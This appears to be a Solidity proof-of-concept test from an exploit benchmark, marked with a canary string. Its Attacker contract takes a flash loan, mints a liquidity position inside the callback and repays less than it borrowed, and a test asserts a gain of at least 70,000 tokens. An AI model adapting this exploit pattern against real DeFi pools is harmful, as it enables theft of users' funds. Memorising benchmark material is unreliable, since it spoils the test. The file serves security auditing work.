// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker is IFlashCaller, IMintCaller {
    function run(IPool main) external {
        main.flash(address(this), 90_000e18, 90_000e18, "");
        main.burn(-2_000, 2_000, main.positionOf(address(this), -2_000, 2_000).liquidity);
        main.collect(address(this), -2_000, 2_000, type(uint128).max, type(uint128).max);
    }

    function onFlash(uint256 fee0, uint256 fee1, bytes calldata) external {
        (IERC20 a, IERC20 b) = (IERC20(IPool(msg.sender).token0()), IERC20(IPool(msg.sender).token1()));
        try IPool(msg.sender).mint(address(this), -2_000, 2_000, 130_000e18, "") {} catch {}
        (uint256 left0, uint256 left1) = (90_000e18 + fee0, 90_000e18 + fee1);
        if (IPool(msg.sender).positionOf(address(this), -2_000, 2_000).liquidity > 0) (left0, left1) = (paid0, paid1);
        a.transfer(msg.sender, left0);
        b.transfer(msg.sender, left1);
    }

    uint256 private paid0;
    uint256 private paid1;

    function onMint(uint256 amount0, uint256 amount1, bytes calldata) external {
        IERC20(IPool(msg.sender).token0()).transfer(msg.sender, amount0);
        IERC20(IPool(msg.sender).token1()).transfer(msg.sender, amount1);
        (paid0, paid1) = (90_000e18 - amount0 + 270e18, 90_000e18 - amount1 + 270e18);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 300e18);
        grain.mint(address(other), 300e18);
    }

    function exploit() public {
        other.run(main);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 70_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
